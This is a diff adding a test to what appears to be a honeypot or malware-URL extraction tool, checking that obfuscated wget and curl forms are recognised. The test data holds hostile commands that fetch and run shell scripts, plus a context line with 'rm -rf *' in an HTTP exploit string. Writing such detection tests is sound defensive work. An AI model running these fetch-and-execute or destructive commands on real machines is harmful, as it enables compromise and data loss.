@@ -119,6 +119,23 @@ test('curl -O, busybox wget without a scheme, curl | sh, and quoted and $IFS for
   );
 });
 
+test('obfuscated and nested forms seen in the wild', async () => {
+  const received = [
+    `w'g'et ${base}/x.sh?q1`, // quotes inside the program name
+    `"/usr/bin/wget" "${base}/x.sh?q2"`,
+    `sudo -n true; sudo wget ${base}/x.sh?q3`,
+    `echo \`curl -s ${base}/x.sh?q4\``,
+    `a=$(wget -qO- ${base}/x.sh?q5)`,
+    `{"method":"exec","params":{"cmd":"cd /tmp;wget ${base}/x.sh?q6 -O a;sh a"}}`,
+    `WGET ${base}/x.sh?q7`, // upper case: a Windows box with GnuWin32 answers to it too
+  ].join('\n');
+  const out = await run(received, { config: { bareUrls: false, maxDownloads: 10 } });
+  assert.deepEqual(
+    summary(out).map(([url, status]) => [url.slice(base.length), status]),
+    ['q1', 'q2', 'q3', 'q4', 'q5', 'q6', 'q7'].map((q) => [`/x.sh?${q}`, 'ok']),
+  );
+});
+
 test('an exploit in an HTTP query string is read percent-decoded', async () => {
   const received = `GET /shell?cd+/tmp;rm+-rf+*;wget+${base.replace(/:/g, '%3A')}/x.sh;sh+/tmp/x.sh HTTP/1.1\r\nHost: x\r\n\r\n`;
   const out = await run(received, { config: { bareUrls: false } });
